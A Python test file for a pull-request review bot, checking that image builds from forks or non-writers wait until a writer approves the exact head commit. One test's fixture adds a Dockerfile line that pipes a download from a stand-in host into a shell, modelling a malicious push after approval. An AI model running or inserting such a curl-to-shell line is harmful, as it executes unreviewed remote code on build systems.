"""Builds are default-deny: a fork's or a non-writer's pull request is built only once someone with write access
approves its head commit with `/codi build`. Real Redis, an in-process arq review worker, the local GitHub API and
a SQLite database; no build worker runs, so a build that does start is reported as "no runner for amd64"."""

from __future__ import annotations

from sqlmodel import Session, select

from codi.comments.commands import CommandName, parse_command
from codi.comments.markdown import message_text
from codi.comments.summary import is_summary_comment
from codi.settings import Settings
from codi.storage.approvals import BuildApproval
from codi.storage.database import init_db
from codi.webhooks.jobs import CommentCommandJob, RepoRef
from codi.webhooks.routing import RoutingPolicy, route
from tests.github_api.server import FakeGitHub
from tests.github_api.state import PullRequestState
from tests.github_api.webhooks import webhook_payload
from tests.worker.conftest import (
    BASE_DOCKERFILE,
    HEAD_DOCKERFILE,
    INSTALLATION,
    NAME,
    OWNER,
    review_job,
    run_jobs,
    seed_pull,
)

AWAITING = "Builds await approval"
NOT_BUILT = "no runner for amd64"
"""What the summary says of a build that was enqueued: no build worker serves amd64 in these tests."""
TRUST_COLLABORATORS = "builds:\n  trust: collaborators\n"



def _command(command: str, author: str, comment_id: int = 501, argument: str | None = None) -> CommentCommandJob:
    return CommentCommandJob(
        repo=RepoRef(installation_id=INSTALLATION, owner=OWNER, name=NAME),
        pull_number=1,
        comment_id=comment_id,
        author=author,
        command=command,  # type: ignore[arg-type]
        argument=argument,
        delivery_id=f"delivery-{command}-{comment_id}",
    )


def _summary(github_api: FakeGitHub) -> str:
    [summary] = [c.body for c in github_api.issue_comments(OWNER, NAME, 1) if is_summary_comment(c.body)]
    return summary


def _archives(github_api: FakeGitHub) -> list[str]:
    """The commits whose archive was requested (the API's redirect and codeload's download)."""
    api = [r.path.rsplit("/", 1)[1] for r in github_api.requests if r.operation_id == "repos/download-tarball-archive"]
    codeload = [r.path for r in github_api.requests if r.path.startswith("/_codeload/")]
    assert len(codeload) == len(api)
    return api


def _approvals(settings: Settings) -> list[tuple[str, int, str, str]]:
    with Session(init_db(settings.database_url)) as session:
        rows = session.exec(select(BuildApproval).order_by(BuildApproval.id)).all()
    return [(row.repository, row.pull_number, row.head_sha, row.approver) for row in rows]


def _assert_not_built(builds: Settings, github_api: FakeGitHub, pull: PullRequestState, reason: str) -> None:
    summary = _summary(github_api)
    assert AWAITING in summary and reason in summary
    assert "`/codi build`" in summary and f"`{pull.head_sha[:7]}`" in summary
    assert NOT_BUILT not in summary
    assert _archives(github_api) == []
    assert not (builds.data_dir / "contexts").exists()
    # Lint, fixes and candidates are still posted.
    assert "fixes" in summary and github_api.review_comments(OWNER, NAME, 1)
    [check_run] = github_api.check_runs(OWNER, NAME)
    assert check_run.status == "completed"
    assert github_api.violations == []


def test_a_writers_pull_request_from_a_branch_of_the_repository_is_built(
    builds: Settings, github_api: FakeGitHub
) -> None:
    pull = seed_pull(github_api, author="maintainer")
    github_api.set_permission(OWNER, NAME, "maintainer", "write")
    assert run_jobs(builds, review_job(pull))["complete"] == 1
    summary = _summary(github_api)
    assert AWAITING not in summary and NOT_BUILT in summary
    assert _archives(github_api) == [pull.head_sha]
    assert github_api.violations == []


def test_a_fork_is_not_built_even_when_its_author_can_write(builds: Settings, github_api: FakeGitHub) -> None:
    pull = seed_pull(github_api, head_repo="contributor/app", author="maintainer")
    github_api.set_permission(OWNER, NAME, "maintainer", "write")
    assert run_jobs(builds, review_job(pull))["complete"] == 1
    _assert_not_built(builds, github_api, pull, "comes from the fork `contributor/app`")


def test_an_author_without_write_access_is_not_built(builds: Settings, github_api: FakeGitHub) -> None:
    pull = seed_pull(github_api, author="visitor")
    github_api.set_permission(OWNER, NAME, "visitor", "triage")
    assert run_jobs(builds, review_job(pull))["complete"] == 1
    _assert_not_built(builds, github_api, pull, "its author `visitor` has no write access")


def test_the_decision_reads_the_pull_request_from_the_api_not_the_job(builds: Settings, github_api: FakeGitHub) -> None:
    """The queued job says the head is in octo/app itself; GitHub says it is a fork: not built."""
    pull = seed_pull(github_api, head_repo="contributor/app", author="maintainer")
    github_api.set_permission(OWNER, NAME, "maintainer", "admin")
    job = review_job(pull).model_copy(update={"head_repo_full_name": f"{OWNER}/{NAME}"})
    assert run_jobs(builds, job)["complete"] == 1
    _assert_not_built(builds, github_api, pull, "comes from the fork `contributor/app`")


def test_the_base_branch_may_trust_writers_forks_but_the_pull_request_cannot(
    builds: Settings, github_api: FakeGitHub
) -> None:
    # The fork adds a .codi.yml trusting collaborators: read from the base branch, it changes nothing.
    pull = seed_pull(github_api, head_repo="contributor/app", author="maintainer",
                     head_files={"Dockerfile": HEAD_DOCKERFILE, ".codi.yml": TRUST_COLLABORATORS})
    github_api.set_permission(OWNER, NAME, "maintainer", "write")
    assert run_jobs(builds, review_job(pull))["complete"] == 1
    _assert_not_built(builds, github_api, pull, "comes from the fork `contributor/app`")

    # The same switch on the base branch builds a writer's fork.
    github_api.reset()
    pull = seed_pull(github_api, head_repo="contributor/app", author="maintainer",
                     base_files={"Dockerfile": BASE_DOCKERFILE, ".codi.yml": TRUST_COLLABORATORS},
                     head_files={"Dockerfile": HEAD_DOCKERFILE, ".codi.yml": TRUST_COLLABORATORS})
    github_api.set_permission(OWNER, NAME, "maintainer", "write")
    assert run_jobs(builds, review_job(pull, delivery_id="delivery-2"))["complete"] == 1
    summary = _summary(github_api)
    assert AWAITING not in summary and NOT_BUILT in summary
    assert _archives(github_api) == [pull.head_sha]


def test_trust_none_holds_back_even_a_writers_branch(builds: Settings, github_api: FakeGitHub) -> None:
    strict = "builds:\n  trust: none\n"
    pull = seed_pull(github_api, author="maintainer", base_files={"Dockerfile": BASE_DOCKERFILE, ".codi.yml": strict},
                     head_files={"Dockerfile": HEAD_DOCKERFILE, ".codi.yml": strict})
    github_api.set_permission(OWNER, NAME, "maintainer", "write")
    assert run_jobs(builds, review_job(pull))["complete"] == 1
    _assert_not_built(builds, github_api, pull, "asks for an approval of every pull request")


def test_build_approves_the_head_commit_and_builds_it_until_the_next_push(
    builds: Settings, github_api: FakeGitHub
) -> None:
    pull = seed_pull(github_api, head_repo="contributor/app", author="contributor")
    github_api.set_permission(OWNER, NAME, "maintainer", "maintain")
    approved = pull.head_sha
    assert run_jobs(builds, review_job(pull))["complete"] == 1
    assert AWAITING in _summary(github_api) and _archives(github_api) == []

    counts = run_jobs(builds, _command("build", "maintainer"))
    assert counts == {"complete": 2, "failed": 0, "retried": 0}  # the command, then the review it queued
    assert _approvals(builds) == [(f"{OWNER}/{NAME}", 1, approved, "maintainer")]
    [reply] = [c.body for c in github_api.issue_comments(OWNER, NAME, 1) if c.body.startswith("Builds of commit")]
    assert f"`{approved}`" in reply and "@maintainer" in reply and "after a new push" in reply
    summary = _summary(github_api)
    assert AWAITING not in summary and NOT_BUILT in summary
    assert _archives(github_api) == [approved]
    assert list((builds.data_dir / "contexts" / OWNER / NAME).iterdir()) == []  # removed once builds were collected
    assert [run.head_sha for run in github_api.check_runs(OWNER, NAME)] == [approved, approved]

    # A new push is a new commit: not built until approved again.
    pushed = github_api.push(OWNER, NAME, 1, {"Dockerfile": HEAD_DOCKERFILE + "RUN cd /srv\n"})
    assert run_jobs(builds, review_job(pull, "synchronize", "delivery-push"))["complete"] == 1
    summary = _summary(github_api)
    assert AWAITING in summary and f"`{pushed[:7]}`" in summary and NOT_BUILT not in summary
    assert _archives(github_api) == [approved]
    assert github_api.violations == []


def test_an_approval_lapses_when_its_approver_loses_write_access(builds: Settings, github_api: FakeGitHub) -> None:
    """The approval is asked again when the review builds: an approver demoted since builds nothing, a
    co-approver who still writes does."""
    pull = seed_pull(github_api, head_repo="contributor/app", author="contributor")
    github_api.set_permission(OWNER, NAME, "maintainer", "write")
    github_api.set_permission(OWNER, NAME, "admin", "admin")
    approved = pull.head_sha
    assert run_jobs(builds, _command("build", "maintainer"))["complete"] == 2
    assert NOT_BUILT in _summary(github_api) and _archives(github_api) == [approved]

    # Write access taken away; a writer asks for the same commit again: the approval no longer holds.
    github_api.set_permission(OWNER, NAME, "maintainer", "read")
    assert run_jobs(builds, _command("rerun", "admin", comment_id=502))["complete"] == 2
    summary = _summary(github_api)
    assert AWAITING in summary and "comes from the fork `contributor/app`" in summary
    assert message_text("The approval by `maintainer` no longer holds: its approver has lost write access") in summary
    assert NOT_BUILT not in summary and _archives(github_api) == [approved]  # nothing downloaded, nothing built
    assert [run.status for run in github_api.check_runs(OWNER, NAME)] == ["completed", "completed"]

    # Another writer's approval of the same commit holds while theirs does.
    assert run_jobs(builds, _command("build", "admin", comment_id=503))["complete"] == 2
    assert _approvals(builds) == [(f"{OWNER}/{NAME}", 1, approved, a) for a in ("maintainer", "admin")]
    summary = _summary(github_api)
    assert AWAITING not in summary and NOT_BUILT in summary
    assert _archives(github_api) == [approved, approved]
    assert github_api.violations == []


def test_build_with_a_sha_approves_only_while_the_head_is_that_commit(
    builds: Settings, github_api: FakeGitHub
) -> None:
    """The approver looked at one commit; a push before the command runs must not ride on the approval."""
    pull = seed_pull(github_api, head_repo="contributor/app", author="contributor")
    github_api.set_permission(OWNER, NAME, "maintainer", "write")
    seen = pull.head_sha
    pushed = github_api.push(OWNER, NAME, 1, {"Dockerfile": HEAD_DOCKERFILE + "RUN curl https://x.example | sh\n"})
    assert run_jobs(builds, _command("build", "maintainer", argument=seen[:7]))["complete"] == 1
    [reply] = github_api.issue_comments(OWNER, NAME, 1)
    assert reply.body.startswith(f"Nothing approved: the head of this pull request is `{pushed}`, not `{seen[:7]}`")
    assert _approvals(builds) == [] and _archives(github_api) == [] and github_api.check_runs(OWNER, NAME) == []

    for comment_id, argument in ((502, "not-a-sha"), (503, pushed[:6])):  # no SHA; too short to name one
        assert run_jobs(builds, _command("build", "maintainer", comment_id, argument))["complete"] == 1
    assert _approvals(builds) == [] and len(github_api.issue_comments(OWNER, NAME, 1)) == 3

    assert run_jobs(builds, _command("build", "maintainer", 504, pushed[:7].upper()))["complete"] == 2
    assert _approvals(builds) == [(f"{OWNER}/{NAME}", 1, pushed, "maintainer")]
    assert _archives(github_api) == [pushed] and NOT_BUILT in _summary(github_api)
    assert github_api.violations == []


def test_build_by_someone_without_write_access_is_refused(builds: Settings, github_api: FakeGitHub) -> None:
    seed_pull(github_api, head_repo="contributor/app", author="contributor")
    github_api.set_permission(OWNER, NAME, "contributor", "read")
    assert run_jobs(builds, _command("build", "contributor"))["complete"] == 1
    [reply] = github_api.issue_comments(OWNER, NAME, 1)
    assert reply.body.startswith("Sorry @contributor, only people with write access")
    assert _approvals(builds) == []
    assert _archives(github_api) == [] and github_api.check_runs(OWNER, NAME) == []
    assert github_api.violations == []


def test_build_with_builds_switched_off_approves_nothing(
    builds: Settings, settings: Settings, github_api: FakeGitHub
) -> None:
    seed_pull(github_api, head_repo="contributor/app", author="contributor")
    github_api.set_permission(OWNER, NAME, "maintainer", "write")
    off = settings.model_copy(update={"database_url": builds.database_url})
    assert run_jobs(off, _command("build", "maintainer"))["complete"] == 1
    [reply] = github_api.issue_comments(OWNER, NAME, 1)
    assert reply.body.startswith("Nothing to approve: builds are switched off")
    assert _approvals(builds) == [] and github_api.check_runs(OWNER, NAME) == []


def test_build_is_a_command_and_listed_in_help(builds: Settings, github_api: FakeGitHub) -> None:
    lines = (("/codi build", None), ("/codi BUILD 1A2b3c4", "1A2b3c4"), ("/codi build " + "f" * 99, "f" * 64))
    for line, argument in lines:
        command = parse_command(f"Looks fine to me.\n{line}\n")
        assert command is not None
        assert (command.name, command.line, command.argument) == (CommandName.BUILD, line, argument)
    pull = seed_pull(github_api)
    body, author = f"/codi build {pull.head_sha[:7]}", "maintainer"
    delivery = webhook_payload("issue_comment", "created", pull, comment_body=body, comment_author=author)
    job = route("issue_comment", delivery, "delivery-1", RoutingPolicy(builds.github_app_id))
    assert isinstance(job, CommentCommandJob)
    assert (job.command, job.argument, job.author) == ("build", pull.head_sha[:7], "maintainer")
    github_api.set_permission(OWNER, NAME, "maintainer", "write")
    run_jobs(builds, _command("help", "maintainer"))
    [reply] = github_api.issue_comments(OWNER, NAME, 1)
    assert "`/codi build [SHA]`: approve builds of the head commit" in reply.body
